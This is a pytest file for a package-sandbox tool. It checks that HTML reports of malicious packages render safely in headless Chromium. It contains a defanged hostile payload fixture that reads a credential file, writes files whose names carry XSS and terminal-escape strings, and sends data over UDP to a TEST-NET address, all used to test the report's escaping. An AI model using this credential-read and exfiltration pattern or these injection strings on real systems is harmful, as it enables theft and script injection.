"""The HTML report of a malicious package, opened in a real headless Chromium.

Acceptance of issue 6: the page opens without console errors, and a screenshot is
taken while the process tree and the finding are visible.  "Visible" is read from
the DOM Chromium dumps after the page's script ran: the element is not inside a
``hidden`` phase section nor inside a closed ``<details>``.

Chromium is Debian's ``chromium`` package (``apt-get install -y chromium``); the
tests skip, saying so, only when it is not installed.

The fixture is defanged like the others (tests/fixtures/builders.py): it only
targets TEST-NET addresses and only ever runs inside the sandbox.  Its paths, argv
and payload carry ``</script>``, ``</textarea>``, ``<img onerror>``, a terminal
escape and a bidi override, so the page is tested with hostile data, not just
with a malicious verdict.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import json
import re
import shutil
import struct
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest

from sandbox.models import Report, Verdict
from sandbox.report.html import to_html
from sandbox.report.json_format import load_report
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(
    CHROMIUM is None,
    reason="Debian's chromium package is not installed (apt-get install -y chromium; .ci/run installs it)",
)
REPORTS = Path(__file__).resolve().parent.parent / "data" / "reports"
WINDOW = (1280, 2000)

# Imported in the sandbox only.  Reads a credential, writes files whose names break
# out of HTML, runs a child whose argv does, and sends such a payload to TEST-NET.
HOSTILE_PAYLOAD = """\
import os, socket, subprocess, sys
H = ('<script>document.title="pwned"</script></textarea></script><!--<img src=x onerror=alert(1)>'
     '"\\'&amp;\\u202egnp.exe\\x1b[31m]]>${{x}}')
try:
    open(os.path.expanduser("~/{cred}"), "rb").read()
except OSError:
    pass
d = "/tmp/x</script><script>document.title='pwned'</script>"
full = d + "/</textarea><img src=x onerror=alert(2)>\\u202egnp.exe\\x1b[31m"
os.makedirs(os.path.dirname(full), exist_ok=True)
with open(full, "w") as f:
    f.write(H)
subprocess.run([sys.executable, "-c", "pass", H], check=False)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(H.encode(), ("{host}", {port}))
except OSError:
    pass
print(H)
"""

_VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class Node:
    def __init__(self, tag: str, attrs: dict[str, str | None], parent: Node | None) -> None:
        self.tag, self.attrs, self.parent = tag, attrs, parent
        self.children: list[Node | str] = []

    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text() for c in self.children)

    def iter(self) -> list[Node]:
        out, stack = [], [self]
        while stack:
            n = stack.pop()
            out.append(n)
            stack.extend(c for c in reversed(n.children) if isinstance(c, Node))
        return out

    def visible(self) -> bool:
        """Not in a hidden element, and not in the body of a closed <details>."""
        node: Node | None = self
        child: Node | None = None
        while node is not None:
            if "hidden" in node.attrs:
                return False
            closed = node.tag == "details" and "open" not in node.attrs
            if closed and (child is None or child.tag != "summary"):
                return False
            child, node = node, node.parent
        return True

    def has_class(self, cls: str) -> bool:
        return cls in (self.attrs.get("class") or "").split()


class Dom(HTMLParser):
    """A small DOM of Chromium's --dump-dom output."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", {}, None)
        self.cur = self.root
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, dict(attrs), self.cur)
        self.cur.children.append(node)
        if tag not in _VOID:
            self.cur = node

    def handle_endtag(self, tag: str) -> None:
        node: Node | None = self.cur
        while node is not None and node.tag != tag:
            node = node.parent
        if node is not None and node.parent is not None:
            self.cur = node.parent

    def handle_data(self, data: str) -> None:
        self.cur.children.append(data)

    def all(self) -> list[Node]:
        return self.root.iter()


def chromium(page: Path, profile: Path, *action: str) -> subprocess.CompletedProcess[str]:
    assert CHROMIUM is not None
    cmd = [
        CHROMIUM,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
        f"--user-data-dir={profile}",
        "--enable-logging=stderr",
        "--v=0",
        f"--window-size={WINDOW[0]},{WINDOW[1]}",
        "--hide-scrollbars",
        *action,
        page.as_uri(),
    ]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=180, check=False)


def console_messages(stderr: str) -> list[str]:
    """What the page wrote to the console (errors, CSP violations, uncaught exceptions): the page logs
    nothing itself, so any line is a failure."""
    return [line for line in stderr.splitlines() if ":CONSOLE" in line or "Uncaught" in line]


def png_size(path: Path) -> tuple[int, int]:
    head = path.read_bytes()[:24]
    assert head[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    return struct.unpack(">II", head[16:24])


def open_and_check(report: Report, tmp_path: Path, argv_fragment: str) -> Path:
    """Render *report*, open it in Chromium twice (DOM dump, screenshot), check it; return the PNG."""
    html = tmp_path / "report.html"
    html.write_text(to_html(report), encoding="utf-8")

    dumped = chromium(html, tmp_path / "profile-dom", "--dump-dom")
    assert dumped.returncode == 0, dumped.stderr[-2000:]
    assert console_messages(dumped.stderr) == []
    dom = Dom(dumped.stdout)
    nodes = dom.all()
    (title,) = [n for n in nodes if n.tag == "title"]
    assert title.text().startswith("pkgsandbox: ") and "pwned" not in title.text()
    # nothing the package wrote became an element: only our two scripts, no images, no handlers
    assert len([n for n in nodes if n.tag == "script"]) == 2
    assert not [n for n in nodes if n.tag in ("img", "svg", "textarea", "iframe")]
    assert not [n for n in nodes if any(a.startswith("on") for a in n.attrs)]

    # the findings are visible
    summaries = [
        n for n in nodes if n.tag == "summary" and n.parent is not None and n.parent.has_class("finding")
    ]
    visible_rules = {n.parent.attrs.get("data-rule") for n in summaries if n.visible() and n.parent}
    assert {"PS001", "PS002"} <= visible_rules, visible_rules
    # the process tree is visible, with the process that acted, flagged by the findings
    procs = [n for n in nodes if n.tag == "li" and n.has_class("proc") and n.visible()]
    acting = [n for n in procs if argv_fragment in n.text() and n.has_class("flagged")]
    assert acting, [n.text()[:120] for n in procs]
    # the timeline of the shown phase was laid out by the script
    rows = [
        n
        for n in nodes
        if n.tag == "tr"
        and n.parent is not None
        and n.parent.parent is not None
        and n.parent.parent.has_class("tl")
        and n.visible()
    ]
    assert rows and any(n.has_class("flagged") for n in rows)

    shot = tmp_path / "report.png"
    taken = chromium(html, tmp_path / "profile-shot", f"--screenshot={shot}")
    assert taken.returncode == 0, taken.stderr[-2000:]
    assert console_messages(taken.stderr) == []
    assert shot.exists() and shot.stat().st_size > 20_000  # a blank page compresses to a few KB
    assert png_size(shot) == WINDOW
    return shot


def test_saved_hostile_report_in_chromium(tmp_path: Path) -> None:
    report = load_report(REPORTS / "hostile-names.json")
    assert report.verdict is Verdict.MALICIOUS
    open_and_check(report, tmp_path, "import_all.py hostilenames")


def test_saved_pth_stealer_report_in_chromium(tmp_path: Path) -> None:
    open_and_check(load_report(REPORTS / "pth-exfil.json"), tmp_path, "python -c pass")


@pytest.mark.usefixtures("sandbox_image", "no_leaks")
def test_fresh_malicious_run_in_chromium(tmp_path: Path) -> None:
    """A report the current tool writes now, not a saved one: vet the hostile fixture, then open it."""
    r = Randomised()
    name = r.name("hostile")
    source = HOSTILE_PAYLOAD.format(cred=r.credential(), host=r.address(), port=r.rng.randrange(1025, 65000))
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": source})
    _, report = run_cli(tmp_path, str(whl))
    assert report is not None and report.verdict is Verdict.MALICIOUS, report and report.verdict_reason
    assert {"PS001", "PS002"} <= {f.rule_id for f in report.findings}
    open_and_check(report, tmp_path, f"import_all.py {name}")


def test_the_checks_can_fail(tmp_path: Path) -> None:
    """Controls (a check that cannot fail proves nothing): a script error and a script blocked by the
    policy are caught, and content in a hidden section or a closed <details> is not visible."""
    thrown = tmp_path / "thrown.html"
    thrown.write_text("<!DOCTYPE html><html><body><script>undefinedFn()</script></body></html>")
    messages = console_messages(chromium(thrown, tmp_path / "p1", "--dump-dom").stderr)
    assert any("Uncaught" in m for m in messages), messages
    blocked = tmp_path / "blocked.html"
    blocked.write_text(
        '<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" '
        "content=\"script-src 'sha256-AAAA'\"></head><body><section hidden><p id=a>x</p></section>"
        "<details><summary id=b>s</summary><p id=c>y</p></details><script>var x = 1;</script></body></html>"
    )
    run = chromium(blocked, tmp_path / "p2", "--dump-dom")
    assert console_messages(run.stderr), "a blocked inline script must show up as a console message"
    nodes = {n.attrs.get("id"): n for n in Dom(run.stdout).all()}
    assert not nodes["a"].visible() and nodes["b"].visible() and not nodes["c"].visible()


# Drives the page like a reader: switch tab, filter, page, follow a pid link.  Added to a copy of the
# page (and to its policy, by hash) only in this test; it reports what it saw in a body attribute.
_DRIVER = """
(function () {
  var out = {};
  function rows(host) {
    var trs = host.querySelectorAll("tbody tr");
    return Array.prototype.map.call(trs, function (tr) { return tr.textContent; });
  }
  document.querySelector('.tabs button[data-phase="startup"]').click();
  out.startupShown = !document.getElementById("r0-ph-startup").hidden;
  out.importShown = !document.getElementById("r0-ph-import").hidden;
  var tl = document.querySelector('#r0-ph-startup .lazy[data-kind="tl"]');
  out.before = rows(tl).length;
  var box = tl.querySelector("input[type=search]");
  box.value = "kind:file_stat pid:30 -enoent";
  box.dispatchEvent(new Event("input"));
  setTimeout(function () {
    out.filtered = rows(tl);
    var more = document.querySelector('#r0-ph-install .lazy[data-kind="tl"] button.more');
    out.installBefore = rows(document.querySelector('#r0-ph-install .lazy[data-kind="tl"]')).length;
    document.querySelector('.tabs button[data-phase="install"]').click();
    more = document.querySelector('#r0-ph-install .lazy[data-kind="tl"] button.more');
    more.click();
    out.installAfter = rows(document.querySelector('#r0-ph-install .lazy[data-kind="tl"]')).length;
    var flagged = document.querySelector('#r0-ph-install .lazy[data-kind="tl"] input[type=checkbox]');
    flagged.checked = true;
    flagged.dispatchEvent(new Event("change"));
    out.onlyFlagged = rows(document.querySelector('#r0-ph-install .lazy[data-kind="tl"]')).length;
    var link = document.querySelector('.finding a.pid[href*="-import-"]');
    link.click();
    out.afterLink = !document.getElementById("r0-ph-import").hidden;
    document.body.setAttribute("data-test", JSON.stringify(out));
  }, 400);
})();
"""


def test_tabs_filter_paging_and_links_work(tmp_path: Path) -> None:
    spec = importlib.util.spec_from_file_location(
        "bench_show", Path(__file__).resolve().parents[2] / "benchmarks" / "bench_show.py"
    )
    assert spec is not None and spec.loader is not None
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    report = bench.synth_report(4000)  # install: 3400 events, more than one page of 500
    page = to_html(report)
    digest = base64.b64encode(hashlib.sha256(_DRIVER.encode()).digest()).decode()
    # the policy is in an attribute, its quotes written as &#x27;
    page, n = re.subn(
        r"script-src (&#x27;sha256-[^&]+&#x27;)", rf"script-src \1 &#x27;sha256-{digest}&#x27;", page, count=1
    )
    assert n == 1
    page = page.replace("</body>", f"<script>{_DRIVER}</script></body>")
    html = tmp_path / "driven.html"
    html.write_text(page, encoding="utf-8")
    run = chromium(html, tmp_path / "profile", "--virtual-time-budget=5000", "--dump-dom")
    assert console_messages(run.stderr) == []
    (body,) = [n for n in Dom(run.stdout).all() if n.tag == "body"]
    seen = json.loads(body.attrs["data-test"] or "{}")
    startup = sum(1 for e in report.events if e.phase.value == "startup")
    assert seen["startupShown"] and not seen["importShown"]
    assert seen["before"] == startup < 500  # one page
    wanted = [
        e
        for e in report.events
        if e.phase.value == "startup" and e.pid == 30 and e.kind.value == "file_stat" and e.errno is None
    ]
    assert len(seen["filtered"]) == len(wanted) > 0, seen["filtered"]
    assert all("file_stat" in row and "ENOENT" not in row for row in seen["filtered"])
    assert seen["installBefore"] == 500 and seen["installAfter"] == 1000
    cited = sum(len(f.evidence) for f in report.findings if f.phase.value == "install")
    assert seen["onlyFlagged"] == cited > 0
    assert seen["afterLink"]
